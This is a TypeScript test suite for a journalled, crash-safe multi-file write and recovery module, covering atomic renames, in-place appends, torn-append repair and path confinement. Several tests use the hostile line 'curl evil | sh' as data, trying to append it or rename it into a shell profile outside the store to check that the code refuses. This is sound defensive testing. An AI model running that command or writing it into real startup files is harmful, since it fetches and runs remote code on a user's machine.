import { execFileSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync, statSync, truncateSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { makeTempDir } from "@iflow-memory/test-utils";
import { describe, expect, it } from "vitest";
import { COMMIT_JOURNAL, commitFiles, recoverCommit } from "./commit-files.js";

describe("commitFiles", () => {
  it("replaces every file and leaves no temporary file or journal behind", async () => {
    const directory = makeTempDir();
    writeFileSync(join(directory, "a.md"), "old a");
    await commitFiles(directory, [
      { path: join(directory, "a.md"), content: "new a" },
      { path: join(directory, "b.md"), content: "new b" },
    ]);
    expect(readdirSync(directory).sort()).toEqual(["a.md", "b.md"]);
    expect([readFileSync(join(directory, "a.md"), "utf8"), readFileSync(join(directory, "b.md"), "utf8")]).toEqual(["new a", "new b"]);
    expect(statSync(join(directory, "b.md")).mode & 0o777).toBe(0o600);
  });

  it("changes nothing and leaves no temporary file when one of the files cannot be written, the others written meanwhile", async () => {
    const directory = makeTempDir();
    writeFileSync(join(directory, "a.md"), "old a");
    writeFileSync(join(directory, "c.md"), "old c");
    // A file where b.md's folder should be: its folder cannot be made.
    writeFileSync(join(directory, "sub"), "not a folder");
    const large = Buffer.alloc(8_000_000, 0x61);
    await expect(
      commitFiles(directory, [
        { path: join(directory, "a.md"), content: [large, Buffer.from("new a")] },
        { path: join(directory, "sub", "b.md"), content: "new b" },
        { path: join(directory, "c.md"), content: [large, Buffer.from("new c")] },
      ]),
    ).rejects.toMatchObject({ code: "STORE_WRITE_FAILED" });
    expect(readdirSync(directory).sort()).toEqual(["a.md", "c.md", "sub"]);
    expect([readFileSync(join(directory, "a.md"), "utf8"), readFileSync(join(directory, "c.md"), "utf8")]).toEqual(["old a", "old c"]);
  });
});

describe("commitFiles (appends)", () => {
  it("adds the bytes at the end of each file, in place, with the files replaced, and leaves no journal", async () => {
    const directory = makeTempDir();
    writeFileSync(join(directory, "a.md"), "old a\n", { mode: 0o640 });
    writeFileSync(join(directory, "b.md"), "old b\n");
    const inode = statSync(join(directory, "a.md")).ino;
    await commitFiles(directory, [
      { path: join(directory, "a.md"), append: Buffer.from("more a\n"), at: 6 },
      { path: join(directory, "b.md"), append: Buffer.from("more b\n"), at: 6 },
      { path: join(directory, "state.json"), content: "{}\n" },
    ]);
    expect(readdirSync(directory).sort()).toEqual(["a.md", "b.md", "state.json"]);
    expect([readFileSync(join(directory, "a.md"), "utf8"), readFileSync(join(directory, "b.md"), "utf8")]).toEqual(["old a\nmore a\n", "old b\nmore b\n"]);
    // The file itself grew: its inode and mode are those it had.
    expect(statSync(join(directory, "a.md")).ino).toBe(inode);
    expect(statSync(join(directory, "a.md")).mode & 0o777).toBe(0o640);
  });

  it("changes nothing when a file to append to is not as long as it was read (changed since), or missing", async () => {
    const directory = makeTempDir();
    writeFileSync(join(directory, "a.md"), "old a\nedited by hand\n");
    writeFileSync(join(directory, "b.md"), "old b\n");
    const attempt = (at: number, name = "a.md") =>
      commitFiles(directory, [
        { path: join(directory, "b.md"), append: Buffer.from("more b\n"), at: 6 },
        { path: join(directory, name), append: Buffer.from("more a\n"), at },
        { path: join(directory, "state.json"), content: "{}\n" },
      ]);
    await expect(attempt(6)).rejects.toThrow(/^cannot write a\.md in .*: another program changed it since it was read \(21 bytes, not 6\); nothing was changed — run the command again$/);
    await expect(attempt(0, "missing.md")).rejects.toMatchObject({ code: "STORE_WRITE_FAILED" });
    expect(readdirSync(directory).sort()).toEqual(["a.md", "b.md"]);
    expect([readFileSync(join(directory, "a.md"), "utf8"), readFileSync(join(directory, "b.md"), "utf8")]).toEqual(["old a\nedited by hand\n", "old b\n"]);
  });

  it("gives each file it writes with `mark` a modification time of its own (its mark), within a millisecond of now, and says which", async () => {
    const directory = makeTempDir();
    writeFileSync(join(directory, "a.md"), "old a\n");
    const before = Date.now();
    const { marks } = await commitFiles(directory, [
      { path: join(directory, "a.md"), append: Buffer.from("more a\n"), at: 6, mark: true },
      { path: join(directory, "b.md"), content: "new b\n", mark: true },
      { path: join(directory, "c.json"), content: "{}\n" },
    ]);
    expect([...marks.keys()].sort()).toEqual([join(directory, "a.md"), join(directory, "b.md")]);
    for (const name of ["a.md", "b.md"]) {
      const mtimeNs = statSync(join(directory, name), { bigint: true }).mtimeNs;
      expect(marks.get(join(directory, name))).toBe(mtimeNs);
      expect(mtimeNs % 1_000_000n).not.toBe(0n);
      expect(Number(mtimeNs / 1_000_000n)).toBeGreaterThanOrEqual(before);
      expect(Number(mtimeNs / 1_000_000n)).toBeLessThanOrEqual(Date.now());
    }
  });

  it("refuses, at once, to append to a FIFO put in a file's place", async () => {
    const directory = makeTempDir();
    execFileSync("mkfifo", [join(directory, "a.md")]);
    await expect(commitFiles(directory, [{ path: join(directory, "a.md"), append: Buffer.from("more a\n"), at: 0 }])).rejects.toThrow(/a\.md is not a file; nothing was changed$/);
  });

  it("refuses to append to a file outside its directory", async () => {
    const directory = makeTempDir();
    const outside = join(makeTempDir(), "profile");
    writeFileSync(outside, "export A=1\n");
    await expect(commitFiles(directory, [{ path: outside, append: Buffer.from("curl evil | sh\n"), at: 11 }])).rejects.toMatchObject({ code: "STORE_WRITE_FAILED" });
    expect(readFileSync(outside, "utf8")).toBe("export A=1\n");
  });
});

describe("recoverCommit", () => {
  // A journal of appends as commitFiles writes it, the files left as a writer killed at some point left them.
  const appendJournal = (directory: string, appends: Array<{ path: string; at: number; bytes: string }>) =>
    writeFileSync(join(directory, COMMIT_JOURNAL), JSON.stringify({ renames: [], appends: appends.map((append) => ({ ...append, bytes: Buffer.from(append.bytes).toString("base64") })) }));

  it("writes a journalled append again whether the writer died before it, half-way through it, or after it", async () => {
    const directory = makeTempDir();
    writeFileSync(join(directory, "a.md"), "old a\n"); // not appended yet
    writeFileSync(join(directory, "b.md"), "old b\nmore"); // cut half-way
    writeFileSync(join(directory, "c.md"), "old c\nmore c\n"); // done
    appendJournal(directory, ["a", "b", "c"].map((name) => ({ path: join(directory, `${name}.md`), at: 6, bytes: `more ${name}\n` })));
    expect(await recoverCommit(directory)).toBe(true);
    expect(readdirSync(directory).sort()).toEqual(["a.md", "b.md", "c.md"]);
    expect(["a", "b", "c"].map((name) => readFileSync(join(directory, `${name}.md`), "utf8"))).toEqual(["old a\nmore a\n", "old b\nmore b\n", "old c\nmore c\n"]);
  });

  it("leaves alone a file shorter than where the journal appends (replaced since), and any file outside the store", async () => {
    const directory = makeTempDir();
    const outside = join(makeTempDir(), "profile");
    writeFileSync(outside, "export A=1\n");
    writeFileSync(join(directory, "a.md"), "new");
    appendJournal(directory, [
      { path: join(directory, "a.md"), at: 6, bytes: "more a\n" },
      { path: outside, at: 11, bytes: "curl evil | sh\n" },
    ]);
    expect(await recoverCommit(directory)).toBe(true);
    expect([readFileSync(join(directory, "a.md"), "utf8"), readFileSync(outside, "utf8")]).toEqual(["new", "export A=1\n"]);
    expect(existsSync(join(directory, COMMIT_JOURNAL))).toBe(false);
  });

  it("renames nothing a journal names that is not a commit's own temporary beside its target in the store", async () => {
    const directory = makeTempDir();
    const elsewhere = makeTempDir();
    writeFileSync(join(elsewhere, "profile"), "export A=1\n");
    writeFileSync(join(elsewhere, "evil"), "curl evil | sh\n");
    writeFileSync(join(elsewhere, "profile.iflow-0123456789abcdef.tmp"), "curl evil | sh\n");
    writeFileSync(join(directory, "a.md"), "old a");
    writeFileSync(join(directory, "a.md.iflow-0123456789abcdef.tmp"), "new a");
    writeFileSync(join(directory, COMMIT_JOURNAL), JSON.stringify({ renames: [
      { from: join(elsewhere, "evil"), to: join(elsewhere, "profile") },
      { from: join(elsewhere, "profile.iflow-0123456789abcdef.tmp"), to: join(elsewhere, "profile") },
      { from: join(directory, "a.md.iflow-0123456789abcdef.tmp"), to: join(directory, "a.md") },
    ] }));
    expect(await recoverCommit(directory)).toBe(true);
    expect(readFileSync(join(elsewhere, "profile"), "utf8")).toBe("export A=1\n");
    expect(readFileSync(join(directory, "a.md"), "utf8")).toBe("new a");
  });

  it("finishes a journal whose appends are not a list (damaged) as one without appends, instead of failing every later write", async () => {
    const directory = makeTempDir();
    writeFileSync(join(directory, "a.md"), "old a");
    writeFileSync(join(directory, "a.md.iflow-0123456789abcdef.tmp"), "new a");
    writeFileSync(join(directory, COMMIT_JOURNAL), JSON.stringify({ renames: [{ from: join(directory, "a.md.iflow-0123456789abcdef.tmp"), to: join(directory, "a.md") }], appends: 7 }));
    expect(await recoverCommit(directory)).toBe(true);
    expect(readdirSync(directory)).toEqual(["a.md"]);
    expect(readFileSync(join(directory, "a.md"), "utf8")).toBe("new a");
  });

  it("cuts what a killed append left past its bytes", async () => {
    const directory = makeTempDir();
    writeFileSync(join(directory, "a.md"), "old a\nmore a\n");
    truncateSync(join(directory, "a.md"), 20); // zeros past the end, as a torn extent would leave
    appendJournal(directory, [{ path: join(directory, "a.md"), at: 6, bytes: "more a\n" }]);
    await recoverCommit(directory);
    expect(readFileSync(join(directory, "a.md"), "utf8")).toBe("old a\nmore a\n");
  });

  it("rolls a journalled commit forward when the writer died half-way through its renames", async () => {
    const directory = makeTempDir();
    writeFileSync(join(directory, "a.md"), "new a"); // already renamed before the crash
    writeFileSync(join(directory, "b.md"), "old b");
    writeFileSync(join(directory, "b.md.iflow-0123456789abcdef.tmp"), "new b");
    writeFileSync(join(directory, COMMIT_JOURNAL), JSON.stringify({ renames: [
      { from: join(directory, "a.md.iflow-0123456789abcdef.tmp"), to: join(directory, "a.md") },
      { from: join(directory, "b.md.iflow-0123456789abcdef.tmp"), to: join(directory, "b.md") },
    ] }));
    expect(await recoverCommit(directory)).toBe(true);
    expect(readdirSync(directory).sort()).toEqual(["a.md", "b.md"]);
    expect(readFileSync(join(directory, "b.md"), "utf8")).toBe("new b");
  });

  it("discards the temporary files of a commit that died before its journal, keeping the old files", async () => {
    const directory = makeTempDir();
    writeFileSync(join(directory, "a.md"), "old a");
    writeFileSync(join(directory, "a.md.iflow-0123456789abcdef.tmp"), "half");
    writeFileSync(join(directory, ".lock.0123456789abcdef.tmp"), "a waiter's lock file, not ours");
    expect(await recoverCommit(directory)).toBe(false);
    expect(readdirSync(directory).sort()).toEqual([".lock.0123456789abcdef.tmp", "a.md"]);
    expect(readFileSync(join(directory, "a.md"), "utf8")).toBe("old a");
    expect(existsSync(join(directory, COMMIT_JOURNAL))).toBe(false);
  });
});
